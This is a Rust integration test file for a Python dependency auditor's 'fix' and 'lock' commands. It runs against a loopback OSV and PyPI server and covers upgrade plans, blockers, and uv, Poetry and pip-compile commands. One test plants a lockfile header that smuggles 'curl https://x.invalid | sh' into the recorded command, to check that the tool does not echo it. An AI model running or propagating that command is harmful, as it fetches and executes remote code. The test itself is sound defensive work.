//! `pyaudit fix`, and the fix `pyaudit lock` gives vulnerability findings, end to end against the
//! loopback OSV + PyPI server: one target per package, the blocker named (a project pin, a Poetry
//! caret, a requirements `.in` line, a dependent's requirement read from its recorded core
//! metadata in `tests/data/fix/`), the command of the tool that wrote the lock, a package with no
//! fixing version, a fix that needs a pre-release, a step refused for a new advisory, the JSON
//! schema; and `--apply` on a real uv project against a loopback package index.

use std::path::{Path, PathBuf};

use crate::support::scenario::{Scenario, pyaudit, simple_page};
use crate::support::schemas::{assert_valid, validator};
use serde_json::{Value, json};

const NOW: &str = "2026-11-25";

fn root() -> PathBuf {
    PathBuf::from(env!("CARGO_MANIFEST_DIR"))
}

/// An OSV record on `package` with `[introduced, fixed)` ranges (`None`: no fix).
fn record(id: &str, package: &str, ranges: &[(&str, Option<&str>)], severity: &str) -> Value {
    let ranges: Vec<Value> = ranges
        .iter()
        .map(|(introduced, fixed)| {
            let mut events = vec![json!({"introduced": introduced})];
            if let Some(fixed) = fixed {
                events.push(json!({"fixed": fixed}));
            }
            json!({"type": "ECOSYSTEM", "events": events})
        })
        .collect();
    json!({
        "id": id,
        "modified": "2026-01-01T00:00:00Z",
        "published": "2026-01-01T00:00:00Z",
        "summary": format!("synthetic vulnerability in {package}"),
        "database_specific": {"severity": severity},
        "affected": [{"package": {"ecosystem": "PyPI", "name": package}, "ranges": ranges}],
    })
}

/// Serve `requests`' releases whose core metadata is recorded in `tests/data/fix/` (METADATA
/// headers of the real wheels), each at `<wheel url>.metadata` (PEP 658).
fn serve_requests(scenario: &Scenario) {
    let server = &scenario.server;
    let mut releases = serde_json::Map::new();
    let mut newest = String::new();
    let mut entries: Vec<_> = std::fs::read_dir(root().join("tests/data/fix"))
        .unwrap()
        .map(|entry| entry.unwrap().path())
        .filter(|path| {
            path.extension()
                .is_some_and(|extension| extension == "METADATA")
        })
        .collect();
    entries.sort();
    for path in entries {
        let stem = path.file_stem().unwrap().to_str().unwrap();
        let version = stem.strip_prefix("requests-").unwrap().to_owned();
        let wheel = format!("requests-{version}-py2.py3-none-any.whl");
        releases.insert(
            version.clone(),
            json!([{
                "filename": wheel,
                "packagetype": "bdist_wheel",
                "upload_time_iso_8601": "2020-01-01T00:00:00.000000Z",
                "yanked": false,
                "url": format!("{}/files/{wheel}", server.url()),
                "core-metadata": true,
            }]),
        );
        server.set_body(
            &format!("/files/{wheel}.metadata"),
            200,
            "text/plain",
            std::fs::read(&path).unwrap(),
        );
        newest = version;
    }
    let document = json!({"info": {"name": "requests", "version": newest, "requires_dist": null},
                          "releases": releases});
    server.set_body(
        "/pypi/requests/json",
        200,
        "application/json",
        document.to_string(),
    );
    server.set_body(
        "/simple/requests/",
        200,
        "application/vnd.pypi.simple.v1+json",
        simple_page(&document).to_string(),
    );
}

/// `pyaudit fix --format json` (plus `args`) on the project.
fn fix(scenario: &Scenario, args: &[&str]) -> (i32, Value, String) {
    let output = run(scenario, "fix", &["--format", "json"], args);
    let json = serde_json::from_str(&output.1)
        .unwrap_or_else(|error| panic!("{error}\nstdout: {}\nstderr: {}", output.1, output.2));
    (output.0, json, output.2)
}

fn run(
    scenario: &Scenario,
    command: &str,
    format: &[&str],
    args: &[&str],
) -> (i32, String, String) {
    let url = scenario.server.url();
    let output = pyaudit(&scenario.fresh_cache())
        .env("PYAUDIT_NOW", NOW)
        .arg(command)
        .args(format)
        .args(["--osv-url", &url, "--pypi-url", &url])
        .args(args)
        .arg(scenario.project())
        .output()
        .unwrap();
    (
        output.status.code().unwrap(),
        String::from_utf8_lossy(&output.stdout).into_owned(),
        String::from_utf8_lossy(&output.stderr).into_owned(),
    )
}

fn package<'a>(plan: &'a Value, name: &str) -> &'a Value {
    plan["lockfiles"][0]["packages"]
        .as_array()
        .unwrap()
        .iter()
        .find(|package| package["name"] == name)
        .unwrap_or_else(|| panic!("no plan for {name}: {plan:#}"))
}

fn commands(package: &Value) -> Vec<String> {
    package["steps"]
        .as_array()
        .unwrap()
        .iter()
        .filter_map(|step| step["command"].as_str().map(str::to_owned))
        .collect()
}

fn uv_lock(packages: &str, root_dependencies: &str) -> String {
    format!(
        "version = 1\nrevision = 3\nrequires-python = \">=3.9\"\n\n[[package]]\nname = \"demo\"\nversion = \"0.1.0\"\nsource = {{ virtual = \".\" }}\ndependencies = [{root_dependencies}]\n{packages}"
    )
}

fn registry_package(name: &str, version: &str, dependencies: &[&str]) -> String {
    let dependencies: Vec<String> = dependencies
        .iter()
        .map(|name| format!("{{ name = \"{name}\" }}"))
        .collect();
    format!(
        "\n[[package]]\nname = \"{name}\"\nversion = \"{version}\"\nsource = {{ registry = \"https://pypi.org/simple\" }}\ndependencies = [{}]\n",
        dependencies.join(", ")
    )
}

/// A uv project: `requests==2.19.0` (which requires `urllib3<1.24`) and `urllib3==1.23`.
fn requests_project() -> Scenario {
    let scenario = Scenario::new();
    scenario.server.use_advisory_matching();
    scenario.server.add_record(record(
        "SYN-URLLIB3-1",
        "urllib3",
        &[("0", Some("1.24.2"))],
        "HIGH",
    ));
    scenario.server.add_record(record(
        "SYN-URLLIB3-2",
        "urllib3",
        &[("0", Some("1.26.17"))],
        "MODERATE",
    ));
    serve_requests(&scenario);
    scenario.write(
        "pyproject.toml",
        "[project]\nname = \"demo\"\nversion = \"0.1.0\"\nrequires-python = \">=3.9\"\ndependencies = [\"requests>=2.19\"]\n",
    );
    scenario.write(
        "uv.lock",
        &uv_lock(
            &(registry_package("requests", "2.19.0", &["urllib3"])
                + &registry_package("urllib3", "1.23", &[])),
            "{ name = \"requests\" }",
        ),
    );
    scenario
}

#[test]
fn urllib3_behind_requests_names_the_dependent_and_its_upgrade() {
    let scenario = requests_project();
    let (code, plan, stderr) = fix(&scenario, &[]);
    assert_eq!(code, 1, "{plan:#}\n{stderr}");
    assert_valid(&validator("fix.schema.json"), &plan, "the fix plan");
    assert_eq!(plan["lockfiles"][0]["tool"]["kind"], "uv");
    let urllib3 = package(&plan, "urllib3");
    assert_eq!(urllib3["target"], "1.26.17", "{urllib3:#}");
    assert_eq!(urllib3["status"], "blocked");
    let fixed: Vec<&str> = urllib3["fixes"]
        .as_array()
        .unwrap()
        .iter()
        .map(|advisory| advisory["id"].as_str().unwrap())
        .collect();
    assert_eq!(fixed, ["SYN-URLLIB3-1", "SYN-URLLIB3-2"]);
    let blocker = &urllib3["blockers"][0];
    assert_eq!(blocker["kind"], "dependent");
    assert_eq!(blocker["name"], "requests");
    assert_eq!(blocker["version"], "2.19.0");
    assert_eq!(blocker["requirement"], "urllib3 (<1.24,>=1.21.1)");
    assert_eq!(blocker["upgrade"], "2.25.0");
    assert!(
        blocker["read_from"]
            .as_str()
            .unwrap()
            .ends_with("/files/requests-2.19.0-py2.py3-none-any.whl.metadata")
    );
    assert_eq!(
        commands(urllib3),
        ["uv lock --upgrade-package 'requests==2.25.0' --upgrade-package 'urllib3==1.26.17'"]
    );

    // `pyaudit lock` gives the same target, blocker and command, in every format.
    let (code, text, _) = run(&scenario, "lock", &["--allow", "PA2"], &[]);
    assert_eq!(code, 1, "{text}");
    assert!(
        text.contains(
            "`uv lock --upgrade-package 'requests==2.25.0' --upgrade-package 'urllib3==1.26.17'`"
        ),
        "{text}"
    );
    assert!(
        text.contains(
            "requests==2.19.0 requires `urllib3 (<1.24,>=1.21.1)`; requests 2.25.0 admits it"
        ),
        "{text}"
    );
    let (_, json_report, _) = run(
        &scenario,
        "lock",
        &["--format", "json", "--allow", "PA2"],
        &[],
    );
    let report: Value = serde_json::from_str(&json_report).unwrap();
    let targets: Vec<&str> = report["lockfiles"][0]["findings"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|finding| finding["package"]["name"] == "urllib3")
        .map(|finding| finding["fix"]["version"].as_str().unwrap())
        .collect();
    assert_eq!(
        targets,
        ["1.26.17", "1.26.17"],
        "one target for every finding"
    );
    let (_, sarif, _) = run(
        &scenario,
        "lock",
        &["--format", "sarif", "--allow", "PA2"],
        &[],
    );
    assert!(
        sarif.contains("--upgrade-package 'requests==2.25.0'"),
        "{sarif}"
    );
    let (_, markdown, _) = run(&scenario, "fix", &["--format", "markdown"], &[]);
    assert!(markdown.contains("```sh\nuv lock --upgrade-package 'requests==2.25.0' --upgrade-package 'urllib3==1.26.17'\n```"), "{markdown}");
    let (_, text, _) = run(&scenario, "fix", &[], &[]);
    assert!(text.contains("urllib3 1.23 -> 1.26.17: blocked"), "{text}");
    assert!(text.contains("Nothing was changed"), "{text}");
}

#[test]
fn a_project_pin_is_changed_with_uv_add_and_named_with_its_line() {
    let scenario = Scenario::new();
    scenario.server.use_advisory_matching();
    scenario.server.add_record(record(
        "SYN-DJANGO-1",
        "django",
        &[("3.2", Some("3.2.4")), ("4.0", Some("4.0.2"))],
        "HIGH",
    ));
    scenario.server.add_record(record(
        "SYN-DJANGO-2",
        "django",
        &[("3.2", Some("3.2.25")), ("4.0", Some("4.2.8"))],
        "CRITICAL",
    ));
    scenario.write(
        "pyproject.toml",
        "[project]\nname = \"demo\"\nversion = \"0.1.0\"\nrequires-python = \">=3.9\"\ndependencies = [\n    \"django==3.2.0\",\n]\n",
    );
    scenario.write(
        "uv.lock",
        &uv_lock(
            &registry_package("django", "3.2.0", &[]),
            "{ name = \"django\" }",
        ),
    );
    let (code, plan, _) = fix(&scenario, &[]);
    assert_eq!(code, 1);
    let django = package(&plan, "django");
    assert_eq!(django["target"], "3.2.25", "{django:#}");
    assert_eq!(django["fixes"].as_array().unwrap().len(), 2);
    let blocker = &django["blockers"][0];
    assert_eq!(blocker["kind"], "project");
    assert_eq!(blocker["requirement"], "django==3.2.0");
    assert_eq!(blocker["location"]["line"], 6);
    assert!(
        blocker["location"]["path"]
            .as_str()
            .unwrap()
            .ends_with("pyproject.toml")
    );
    assert_eq!(commands(django), ["uv add 'django>=3.2.25'"]);
    let (_, text, _) = run(&scenario, "lock", &["--allow", "PA2"], &[]);
    assert!(text.contains("`uv add 'django>=3.2.25'`"), "{text}");
    assert!(text.contains("pyproject.toml:6"), "{text}");
}

#[test]
fn a_poetry_caret_is_widened_with_poetry_add() {
    let scenario = Scenario::new();
    scenario.server.use_advisory_matching();
    scenario.server.add_record(record(
        "SYN-FLASK-1",
        "flask",
        &[("0", Some("2.2.5"))],
        "HIGH",
    ));
    scenario.write(
        "pyproject.toml",
        "[tool.poetry]\nname = \"demo\"\nversion = \"0.1.0\"\ndescription = \"\"\nauthors = []\n\n[tool.poetry.dependencies]\npython = \"^3.9\"\nflask = \"^1.1\"\n\n[tool.poetry.group.dev.dependencies]\n",
    );
    scenario.write(
        "poetry.lock",
        "[[package]]\nname = \"flask\"\nversion = \"1.1.4\"\ndescription = \"\"\noptional = false\npython-versions = \"*\"\nfiles = []\n\n[metadata]\nlock-version = \"2.0\"\npython-versions = \"^3.9\"\ncontent-hash = \"x\"\n",
    );
    let (code, plan, stderr) = fix(&scenario, &[]);
    assert_eq!(code, 1, "{stderr}");
    assert_eq!(plan["lockfiles"][0]["tool"]["kind"], "poetry");
    let flask = package(&plan, "flask");
    assert_eq!(flask["target"], "2.2.5");
    assert_eq!(flask["blockers"][0]["requirement"], "flask = \"^1.1\"");
    assert_eq!(flask["blockers"][0]["location"]["line"], 9);
    assert_eq!(commands(flask), ["poetry add 'flask@^2.2.5'"]);
}

const UV_HEADER: &str = "# This file was autogenerated by uv via the following command:\n#    uv pip compile requirements.in -o requirements.txt\n";
const PIP_COMPILE_HEADER: &str = "#\n# This file is autogenerated by pip-compile with Python 3.11\n# by the following command:\n#\n#    pip-compile --output-file=requirements.txt requirements.in\n#\n";

fn compiled_project(header: &str, input: &str) -> Scenario {
    let scenario = Scenario::new();
    scenario.server.use_advisory_matching();
    scenario.server.add_record(record(
        "SYN-URLLIB3-2",
        "urllib3",
        &[("0", Some("1.26.17"))],
        "MODERATE",
    ));
    serve_requests(&scenario);
    scenario.write("requirements.in", input);
    scenario.write(
        "requirements.txt",
        &format!(
            "{header}requests==2.25.0\n    # via -r requirements.in\nurllib3==1.26.4\n    # via requests\n"
        ),
    );
    scenario
}

#[test]
fn a_uv_pip_compile_file_gets_uv_pip_compile() {
    let scenario = compiled_project(UV_HEADER, "requests\n");
    let (code, plan, stderr) = fix(&scenario, &[]);
    assert_eq!(code, 1, "{stderr}");
    assert_eq!(plan["lockfiles"][0]["tool"]["kind"], "uv-pip-compile");
    let urllib3 = package(&plan, "urllib3");
    assert_eq!(urllib3["status"], "ready", "{urllib3:#}");
    assert_eq!(
        commands(urllib3),
        ["uv pip compile requirements.in -o requirements.txt --upgrade-package 'urllib3==1.26.17'"]
    );
}

#[test]
fn a_pip_compile_file_gets_pip_compile_and_its_input_pin_is_edited_first() {
    let scenario = compiled_project(PIP_COMPILE_HEADER, "requests\nurllib3<1.26.5\n");
    let (_, plan, _) = fix(&scenario, &[]);
    assert_eq!(plan["lockfiles"][0]["tool"]["kind"], "pip-compile");
    let urllib3 = package(&plan, "urllib3");
    assert_eq!(urllib3["status"], "blocked");
    let edit = &urllib3["steps"][0];
    assert_eq!(edit["kind"], "edit");
    assert_eq!(edit["from"], "urllib3<1.26.5");
    assert_eq!(edit["to"], "urllib3>=1.26.17");
    assert_eq!(edit["location"]["line"], 2);
    assert_eq!(
        commands(urllib3),
        [
            "pip-compile --output-file=requirements.txt requirements.in --upgrade-package 'urllib3==1.26.17'"
        ]
    );

    // A header whose command carries shell syntax is not repeated.
    let hostile = compiled_project(
        "# This file was autogenerated by uv via the following command:\n#    uv pip compile requirements.in; curl https://x.invalid | sh\n",
        "requests\n",
    );
    let (_, plan, _) = fix(&hostile, &[]);
    assert_eq!(
        commands(package(&plan, "urllib3")),
        ["uv pip compile requirements.in -o requirements.txt --upgrade-package 'urllib3==1.26.17'"]
    );
}

#[test]
fn a_package_without_a_fixing_version_says_which_advisory_is_left() {
    let scenario = Scenario::new();
    scenario.server.use_advisory_matching();
    scenario
        .server
        .add_record(record("SYN-OPEN-1", "openpkg", &[("0", None)], "HIGH"));
    scenario.server.add_record(record(
        "SYN-FIXED-1",
        "openpkg",
        &[("0", Some("1.1"))],
        "LOW",
    ));
    scenario.write("requirements.txt", "openpkg==1.0\n");
    let (code, plan, _) = fix(&scenario, &[]);
    assert_eq!(code, 1);
    let openpkg = package(&plan, "openpkg");
    assert_eq!(openpkg["target"], "1.1");
    assert_eq!(openpkg["left"][0]["id"], "SYN-OPEN-1");
    assert_eq!(openpkg["fixes"][0]["id"], "SYN-FIXED-1");
    // A hand-written file: the pin is edited by hand.
    assert_eq!(openpkg["steps"][0]["kind"], "edit");
    assert_eq!(openpkg["steps"][0]["to"], "openpkg==1.1");
    let (_, text, _) = run(&scenario, "fix", &[], &[]);
    assert!(
        text.contains("left: SYN-OPEN-1 (high) (no version fixes it)"),
        "{text}"
    );

    scenario.write("requirements.txt", "onlyopen==1.0\n");
    scenario
        .server
        .add_record(record("SYN-OPEN-2", "onlyopen", &[("0", None)], "HIGH"));
    let (_, plan, _) = fix(&scenario, &[]);
    let onlyopen = package(&plan, "onlyopen");
    assert_eq!(onlyopen["status"], "no-fix");
    assert_eq!(onlyopen["left"][0]["id"], "SYN-OPEN-2");
    assert!(onlyopen.get("target").is_none());
}

#[test]
fn a_fix_that_needs_a_pre_release_says_so() {
    let scenario = Scenario::new();
    scenario.server.use_advisory_matching();
    scenario.server.add_record(record(
        "SYN-PRE-1",
        "prepkg",
        &[("0", Some("2.0.0rc1"))],
        "HIGH",
    ));
    scenario.write(
        "pyproject.toml",
        "[project]\nname = \"demo\"\nversion = \"0.1.0\"\nrequires-python = \">=3.9\"\ndependencies = [\"prepkg>=1\"]\n",
    );
    scenario.write(
        "uv.lock",
        &uv_lock(
            &registry_package("prepkg", "1.0", &[]),
            "{ name = \"prepkg\" }",
        ),
    );
    let (_, plan, _) = fix(&scenario, &[]);
    let prepkg = package(&plan, "prepkg");
    assert_eq!(prepkg["status"], "needs-prerelease");
    assert_eq!(prepkg["target"], "2.0.0rc1");
    assert_eq!(
        commands(prepkg),
        ["uv lock --prerelease allow --upgrade-package 'prepkg==2.0.0rc1'"]
    );
    assert!(
        prepkg["notes"][0]
            .as_str()
            .unwrap()
            .contains("no final release fixes")
    );
}

#[test]
fn a_step_to_a_version_with_a_new_advisory_is_refused() {
    let scenario = Scenario::new();
    scenario.server.use_advisory_matching();
    scenario.server.add_record(record(
        "SYN-OLD-1",
        "newvuln",
        &[("0", Some("1.5"))],
        "HIGH",
    ));
    // Only 1.5 has it: the locked 1.0 does not.
    scenario.server.add_record(record(
        "SYN-NEW-1",
        "newvuln",
        &[("1.5", Some("1.6"))],
        "CRITICAL",
    ));
    scenario.write("requirements.txt", "newvuln==1.0\n");
    let (_, plan, _) = fix(&scenario, &[]);
    let newvuln = package(&plan, "newvuln");
    assert_eq!(newvuln["status"], "refused", "{newvuln:#}");
    assert_eq!(
        newvuln["refused"],
        "`newvuln` 1.5 has SYN-NEW-1, which 1.0 does not"
    );
    let (_, text, _) = run(&scenario, "lock", &["--allow", "PA2"], &[]);
    assert!(
        text.contains("refused: `newvuln` 1.5 has SYN-NEW-1"),
        "{text}"
    );
}

#[test]
fn a_clean_lock_has_nothing_to_fix() {
    let scenario = Scenario::new();
    scenario.write("requirements.txt", "cleanpkg==1.0\n");
    let (code, plan, _) = fix(&scenario, &[]);
    assert_eq!(code, 0, "{plan:#}");
    assert_eq!(plan["lockfiles"][0]["packages"], json!([]));
    assert_valid(&validator("fix.schema.json"), &plan, "the fix plan");
}

// ---------------------------------------------------------------------------------------------
// `--apply` on a real uv project against a loopback package index.

/// `uv`, installed into a virtual environment of the test's own (kept under the target
/// directory, so later runs reuse it), or why it could not be.
fn uv_binary() -> Result<PathBuf, String> {
    if let Some(uv) = std::env::var_os("PYAUDIT_TEST_UV") {
        return Ok(PathBuf::from(uv));
    }
    let venv = Path::new(env!("CARGO_TARGET_TMPDIR")).join("fix-uv-venv");
    let uv = venv.join("bin/uv");
    if uv.is_file() {
        return Ok(uv);
    }
    let status = std::process::Command::new("python3")
        .args(["-m", "venv"])
        .arg(&venv)
        .status()
        .map_err(|error| format!("python3 -m venv: {error}"))?;
    if !status.success() {
        return Err(format!("python3 -m venv failed ({status})"));
    }
    let output = std::process::Command::new(venv.join("bin/python"))
        .args([
            "-m",
            "pip",
            "install",
            "--quiet",
            "--disable-pip-version-check",
            "uv",
        ])
        .output()
        .map_err(|error| format!("pip install uv: {error}"))?;
    if !output.status.success() || !uv.is_file() {
        return Err(format!(
            "pip install uv failed: {}",
            String::from_utf8_lossy(&output.stderr)
        ));
    }
    Ok(uv)
}

fn sha256(bytes: &[u8]) -> String {
    aws_lc_rs::digest::digest(&aws_lc_rs::digest::SHA256, bytes)
        .as_ref()
        .iter()
        .map(|byte| format!("{byte:02x}"))
        .collect()
}

/// A pure wheel of `name==version` requiring `requires`.
fn wheel(name: &str, version: &str, requires: &[&str]) -> (String, Vec<u8>, String) {
    use std::io::Write;
    let mut metadata = format!("Metadata-Version: 2.1\nName: {name}\nVersion: {version}\n");
    for requirement in requires {
        metadata.push_str(&format!("Requires-Dist: {requirement}\n"));
    }
    let info = format!("{name}-{version}.dist-info");
    let files = [
        (format!("{name}/__init__.py"), String::new()),
        (format!("{info}/METADATA"), metadata.clone()),
        (
            format!("{info}/WHEEL"),
            "Wheel-Version: 1.0\nGenerator: pyaudit-tests\nRoot-Is-Purelib: true\nTag: py3-none-any\n"
                .to_owned(),
        ),
    ];
    let mut writer = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
    let mut record = String::new();
    for (path, text) in &files {
        writer
            .start_file(path.as_str(), zip::write::SimpleFileOptions::default())
            .unwrap();
        writer.write_all(text.as_bytes()).unwrap();
        record.push_str(&format!("{path},,\n"));
    }
    record.push_str(&format!("{info}/RECORD,,\n"));
    writer
        .start_file(
            format!("{info}/RECORD"),
            zip::write::SimpleFileOptions::default(),
        )
        .unwrap();
    writer.write_all(record.as_bytes()).unwrap();
    let bytes = writer.finish().unwrap().into_inner();
    (
        format!("{name}-{version}-py3-none-any.whl"),
        bytes,
        metadata,
    )
}

/// Publish `releases` of `name` on the loopback index: the wheels, their PEP 658 metadata, the
/// Simple API (JSON) and the JSON API.
fn publish(scenario: &Scenario, name: &str, releases: &[(&str, &[&str])]) {
    let server = &scenario.server;
    let mut simple_files = Vec::new();
    let mut json_releases = serde_json::Map::new();
    for (version, requires) in releases {
        let (filename, bytes, metadata) = wheel(name, version, requires);
        let url = format!("{}/files/{filename}", server.url());
        simple_files.push(json!({
            "filename": filename,
            "url": url,
            "hashes": {"sha256": sha256(&bytes)},
            "core-metadata": {"sha256": sha256(metadata.as_bytes())},
            "upload-time": "2020-01-01T00:00:00.000000Z",
        }));
        json_releases.insert(
            (*version).to_owned(),
            json!([{
                "filename": filename,
                "packagetype": "bdist_wheel",
                "upload_time_iso_8601": "2020-01-01T00:00:00.000000Z",
                "yanked": false,
                "url": url,
                "digests": {"sha256": sha256(&bytes)},
                "core-metadata": {"sha256": sha256(metadata.as_bytes())},
            }]),
        );
        server.set_body(
            &format!("/files/{filename}"),
            200,
            "application/octet-stream",
            bytes,
        );
        server.set_body(
            &format!("/files/{filename}.metadata"),
            200,
            "text/plain",
            metadata,
        );
    }
    let newest = releases.last().unwrap().0;
    server.set_body(
        &format!("/simple/{name}/"),
        200,
        "application/vnd.pypi.simple.v1+json",
        json!({"meta": {"api-version": "1.1"}, "name": name, "files": simple_files,
               "versions": releases.iter().map(|(version, _)| *version).collect::<Vec<_>>()})
        .to_string(),
    );
    server.set_body(
        &format!("/pypi/{name}/json"),
        200,
        "application/json",
        json!({"info": {"name": name, "version": newest, "requires_dist": null,
                        "license_expression": "MIT"},
               "releases": json_releases})
        .to_string(),
    );
}

fn uv_command(uv: &Path, scenario: &Scenario) -> std::process::Command {
    let mut command = std::process::Command::new(uv);
    command
        .current_dir(scenario.project())
        .env("UV_CACHE_DIR", scenario.directory.path().join("uv-cache"))
        .env("UV_PYTHON_DOWNLOADS", "never")
        .env("NO_PROXY", "127.0.0.1,localhost")
        .env_remove("UV_INDEX_URL")
        .env_remove("UV_DEFAULT_INDEX");
    command
}

#[test]
fn apply_runs_uv_and_the_new_lock_passes() {
    let uv = match uv_binary() {
        Ok(uv) => uv,
        Err(reason) => {
            println!(
                "SKIPPED apply_runs_uv_and_the_new_lock_passes: uv could not be installed: {reason}"
            );
            eprintln!(
                "SKIPPED apply_runs_uv_and_the_new_lock_passes: uv could not be installed: {reason}"
            );
            return;
        }
    };
    let scenario = Scenario::new();
    scenario.server.use_advisory_matching();
    // What the index had when the project was locked: `dep` 1.0 requires `vulnpkg<1.1`.
    publish(&scenario, "vulnpkg", &[("1.0", &[])]);
    publish(&scenario, "dep", &[("1.0", &["vulnpkg<1.1"])]);
    scenario.write(
        "pyproject.toml",
        &format!(
            "[project]\nname = \"demo\"\nversion = \"0.1.0\"\nrequires-python = \">=3.8\"\ndependencies = [\"dep>=1.0\"]\n\n[[tool.uv.index]]\nname = \"loopback\"\nurl = \"{}/simple\"\ndefault = true\n",
            scenario.server.url()
        ),
    );
    let locked = uv_command(&uv, &scenario).arg("lock").output().unwrap();
    assert!(
        locked.status.success(),
        "uv lock: {}",
        String::from_utf8_lossy(&locked.stderr)
    );
    let before = std::fs::read_to_string(scenario.project().join("uv.lock")).unwrap();
    assert!(
        before.contains("name = \"vulnpkg\"\nversion = \"1.0\""),
        "{before}"
    );

    // Later: fixed releases, and an advisory on vulnpkg < 1.1.
    publish(&scenario, "vulnpkg", &[("1.0", &[]), ("1.1", &[])]);
    publish(
        &scenario,
        "dep",
        &[("1.0", &["vulnpkg<1.1"]), ("1.1", &["vulnpkg<2"])],
    );
    scenario.server.add_record(record(
        "SYN-VULNPKG-1",
        "vulnpkg",
        &[("0", Some("1.1"))],
        "HIGH",
    ));

    let path = format!(
        "{}:{}",
        uv.parent().unwrap().display(),
        std::env::var("PATH").unwrap_or_default()
    );
    let url = scenario.server.url();
    // Without --apply nothing changes.
    let output = pyaudit(&scenario.fresh_cache())
        .env("PYAUDIT_NOW", NOW)
        .env("PATH", &path)
        .args([
            "fix",
            "--format",
            "json",
            "--osv-url",
            &url,
            "--pypi-url",
            &url,
        ])
        .arg(scenario.project())
        .output()
        .unwrap();
    assert_eq!(output.status.code(), Some(1));
    let plan: Value = serde_json::from_slice(&output.stdout).unwrap();
    assert_eq!(
        commands(package(&plan, "vulnpkg")),
        ["uv lock --upgrade-package 'dep==1.1' --upgrade-package 'vulnpkg==1.1'"]
    );
    assert_eq!(
        std::fs::read_to_string(scenario.project().join("uv.lock")).unwrap(),
        before
    );

    let output = pyaudit(&scenario.fresh_cache())
        .env("PYAUDIT_NOW", NOW)
        .env("PATH", &path)
        .env("UV_CACHE_DIR", scenario.directory.path().join("uv-cache"))
        .args([
            "fix",
            "--apply",
            "--format",
            "json",
            "--osv-url",
            &url,
            "--pypi-url",
            &url,
        ])
        .arg(scenario.project())
        .output()
        .unwrap();
    let stdout = String::from_utf8_lossy(&output.stdout);
    let applied: Value = serde_json::from_str(&stdout).unwrap_or_else(|error| {
        panic!(
            "{error}: {stdout}\n{}",
            String::from_utf8_lossy(&output.stderr)
        )
    });
    assert_valid(&validator("fix.schema.json"), &applied, "the applied plan");
    assert_eq!(output.status.code(), Some(0), "{applied:#}");
    let run = &applied["applied"][0];
    assert_eq!(run["steps"][0]["outcome"], "ok", "{run:#}");
    assert_eq!(run["fixed"], json!(["vulnpkg 1.0 -> 1.1: SYN-VULNPKG-1"]));
    assert_eq!(run["left"], json!([]));
    let after = std::fs::read_to_string(scenario.project().join("uv.lock")).unwrap();
    assert!(
        after.contains("name = \"vulnpkg\"\nversion = \"1.1\""),
        "{after}"
    );
    assert!(
        after.contains("name = \"dep\"\nversion = \"1.1\""),
        "{after}"
    );

    // The new lock passes `pyaudit lock`.
    let (code, text, stderr) = run_lock(&scenario);
    assert_eq!(code, 0, "{text}\n{stderr}");
}

fn run_lock(scenario: &Scenario) -> (i32, String, String) {
    run(scenario, "lock", &[], &[])
}

/// A cold `lock` with its default rules asks PyPI once per project (its Simple API page): the
/// fix hints read the
/// release lists the metadata stage fetched (and do not ask again for one it could not get),
/// and the versions the fix moves to are checked inside the enrichment wave.
#[test]
fn a_cold_lock_asks_each_project_once_for_its_fix_hints() {
    let scenario = requests_project();
    let (code, json_report, stderr) = run(&scenario, "lock", &["--format", "json"], &[]);
    assert!(code == 1 || code == 2, "{json_report}\n{stderr}");
    let report: Value = serde_json::from_str(&json_report).unwrap();
    let targets: Vec<&str> = report["lockfiles"][0]["findings"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|finding| finding["rule"] == "vulnerability")
        .map(|finding| finding["fix"]["version"].as_str().unwrap())
        .collect();
    assert_eq!(targets, ["1.26.17", "1.26.17"], "{report:#}");
    let server = &scenario.server;
    // The default rules read the Simple API alone, and the fix hints its release lists.
    assert_eq!(server.requests("/simple/requests/"), 1);
    assert_eq!(server.requests("/simple/urllib3/"), 1);
    assert_eq!(
        server.requests("/pypi/"),
        0,
        "{:?}",
        server
            .log()
            .iter()
            .map(|request| request.path.clone())
            .collect::<Vec<_>>()
    );
    // The lock; urllib3's target answered inside the wave by urllib3's whole history, asked
    // alongside its records; after the plan, only what the wave could not know (the upgrade of
    // requests that unblocks it, a package without advisories of its own).
    let batches: Vec<Value> = server
        .log()
        .iter()
        .filter(|request| request.path == "/v1/querybatch")
        .map(|request| request.json())
        .collect();
    assert_eq!(batches.len(), 2, "{batches:#?}");
    let asked_for = |version: &str| {
        batches
            .iter()
            .filter(|batch| batch.to_string().contains(&format!("\"{version}\"")))
            .count()
    };
    assert_eq!(asked_for("1.26.17"), 0, "{batches:#?}");
    assert_eq!(asked_for("2.25.0"), 1, "{batches:#?}");
    let histories: Vec<Value> = server
        .log()
        .iter()
        .filter(|request| request.path == "/v1/query")
        .map(|request| request.json())
        .filter(|body| body.get("version").is_none())
        .collect();
    assert_eq!(histories.len(), 1, "{histories:#?}");
    assert_eq!(histories[0]["package"]["name"], "urllib3");
}
